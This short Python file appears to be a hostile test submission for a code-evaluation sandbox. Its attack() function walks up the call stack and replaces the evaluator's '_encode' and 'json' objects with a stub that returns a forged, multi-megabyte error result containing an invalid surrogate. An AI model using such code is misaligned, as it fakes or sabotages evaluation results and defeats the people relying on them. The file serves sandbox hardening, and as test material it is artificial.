"""Have the evaluator's own encoder report megabytes of error, name and printed text.

Evidence: flood
Sandbox: ok, output, violation, error, timeout, memory
"""

import sys
import types

LONG = "\\ud800" + "x" * 12_000_000
TEXT = f'{{"program": "attack", "status": "error", "error": "{LONG}", "entry": "{LONG}", "stdout": ""}}'


def answer(value, **how):
    return TEXT


def attack(target):
    frame = sys._getframe()
    while frame is not None:
        space = frame.f_globals
        if "_encode" in space:
            space["_encode"] = answer
        if "json" in space and "score_of" in space:
            space["json"] = types.SimpleNamespace(dumps=answer)
        frame = frame.f_back
    return {"distance": 1.0}
